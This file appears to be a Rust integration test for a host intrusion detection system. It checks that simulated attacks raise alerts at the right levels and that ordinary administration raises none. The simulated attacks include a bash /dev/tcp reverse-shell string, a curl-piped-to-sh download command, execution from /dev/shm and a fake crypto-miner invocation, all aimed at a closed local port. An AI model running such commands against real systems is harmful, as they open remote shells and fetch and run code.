//! The whole path on this host: real commands, the real agent capturing them and sending
//! to Kafka (tansu), hids-server raising alerts. Attacks a security engineer would call
//! attacks raise alerts at the right level; ordinary administration raises none.

#![allow(clippy::unwrap_used)]

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use common::sqlite_server;
use hids_test_support::{free_port, require_root, tag, Agent, Broker};
use serde_json::Value;

/// Ordinary administration, run as argv (no shell in between).
const ADMIN: &[&[&str]] = &[
    &["ls", "-l", "/etc/hostname"],
    &["ps", "aux"],
    &["uname", "-r"],
    &["df", "-h", "/"],
    &["cat", "/etc/os-release"],
    &["grep", "-c", "root", "/etc/group"],
    &["sh", "-c", "date >/dev/null; id -u >/dev/null"],
    &["find", "/etc", "-maxdepth", "1", "-name", "hosts"],
    &["dpkg", "-l", "bash"],
    &["sha256sum", "/etc/hostname"],
    &["wc", "-l", "/etc/services"],
    &["env", "LC_ALL=C", "sort", "/etc/hostname"],
    &[
        "bash",
        "-c",
        "for f in /etc/hostname /etc/hosts; do test -r $f; done",
    ],
    &["tar", "-cf", "/dev/null", "/etc/hostname"],
    &["free", "-m"],
];

fn run(argv: &[&str]) {
    let _ = Command::new(argv[0])
        .args(&argv[1..])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status();
}

fn copy_exec(from: &str, to: &Path) {
    std::fs::copy(from, to).expect("copy an executable");
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755)).expect("chmod 755");
}

fn command_line(alert: &Value) -> String {
    alert["event"]["process"]["command_line"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

#[test]
fn attacks_on_this_host_raise_alerts_at_their_level_and_administration_raises_none() {
    require_root!();
    let topic = format!("events-{}", tag());
    let broker = Broker::start();
    broker.create_topic(&topic);
    let host = format!("agent-test-{}", tag());
    let agent = Agent::start(&format!(
        "host_id = \"{host}\"\n\
         [[sinks]]\nkind = \"kafka\"\nbrokers = \"{}\"\ntopic = \"{topic}\"\n\
         [labels]\nidc = \"test-idc\"\nproject = \"hids\"\n",
        broker.addr()
    ));
    agent.wait_process_ready();
    // The whole machine is watched, and other work on it (builds, benchmarks) can raise
    // the same rules: one-second windows keep this test's commands in alerts of their
    // own, so the evidence can be checked.
    let (dir, server) = sqlite_server(&broker, &topic, "[alerts]\nwindow_secs = 1\n");

    for argv in ADMIN {
        run(argv);
    }
    let closed = free_port();
    let marker = tag();
    let shm = std::path::PathBuf::from(format!("/dev/shm/hids-test-{marker}"));
    copy_exec("/bin/true", &shm);
    let miner = dir.path().join("xmrig");
    copy_exec("/bin/true", &miner);
    let nginx = dir.path().join("nginx");
    copy_exec("/bin/dash", &nginx);
    let reverse = format!("bash -i >& /dev/tcp/127.0.0.1/{closed} 0>&1; : {marker}");
    let download = format!("curl -fsS http://127.0.0.1:{closed}/x.sh | sh; : {marker}");
    // (level, rule, the command, what the alert's evidence must contain)
    let tmp = dir.path().display().to_string();
    let attacks: Vec<(&str, &str, Vec<String>, String)> = vec![
        (
            "critical",
            "hids-linux-reverse-shell-bash-dev-tcp",
            vec!["bash".into(), "-c".into(), reverse],
            marker.clone(),
        ),
        (
            "high",
            "hids-linux-download-piped-to-shell",
            vec!["sh".into(), "-c".into(), download],
            marker.clone(),
        ),
        (
            "high",
            "hids-linux-exec-from-memory",
            vec![shm.display().to_string()],
            marker.clone(),
        ),
        (
            "high",
            "hids-linux-crypto-miner",
            vec![
                miner.display().to_string(),
                "-o".into(),
                "stratum+tcp://127.0.0.1:3333".into(),
                "--donate-level".into(),
                "1".into(),
            ],
            tmp.clone(),
        ),
        // The shell nginx runs is the evidence; nginx itself, run from /tmp, is too.
        (
            "high",
            "hids-linux-service-spawns-shell",
            vec![
                nginx.display().to_string(),
                "-c".into(),
                format!("sh -c 'true {marker}'; true"),
            ],
            marker.clone(),
        ),
        (
            "medium",
            "hids-linux-exec-from-tmp",
            Vec::new(),
            // Any: the test's own binaries may run from /tmp too (a checkout there).
            String::new(),
        ),
    ];
    for (_, _, argv, _) in &attacks {
        if !argv.is_empty() {
            let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
            run(&argv);
        }
    }
    let _ = std::fs::remove_file(&shm);

    let query = format!("?host_id={host}&limit=1000");
    let raised = |alerts: &[Value], rule: &str, evidence: &str| -> Option<Value> {
        alerts
            .iter()
            .find(|a| {
                a["rule_id"] == rule && (evidence.is_empty() || command_line(a).contains(evidence))
            })
            .cloned()
    };
    let alerts = server.wait_alerts(
        "an alert for every attack",
        &query,
        Duration::from_secs(90),
        |alerts| {
            attacks
                .iter()
                .all(|(_, rule, _, evidence)| raised(alerts, rule, evidence).is_some())
        },
    );
    for (level, rule, _, evidence) in &attacks {
        let a = raised(&alerts, rule, evidence).unwrap();
        assert_eq!(a["level"], *level, "{rule}: {a:#}");
        assert_eq!(a["labels"]["idc"], "test-idc");
        assert_eq!(a["event"]["host"]["id"], host.as_str());
    }
    // Ordinary administration: no alert has one of those commands as its evidence.
    for a in &alerts {
        let args: Vec<&str> = a["event"]["process"]["args"]
            .as_array()
            .map(|v| v.iter().map(|x| x.as_str().unwrap_or_default()).collect())
            .unwrap_or_default();
        assert!(
            !ADMIN.contains(&args.as_slice()),
            "administration raised {} ({}): {}",
            a["rule_id"],
            a["level"],
            command_line(a)
        );
    }
    drop(agent);
}
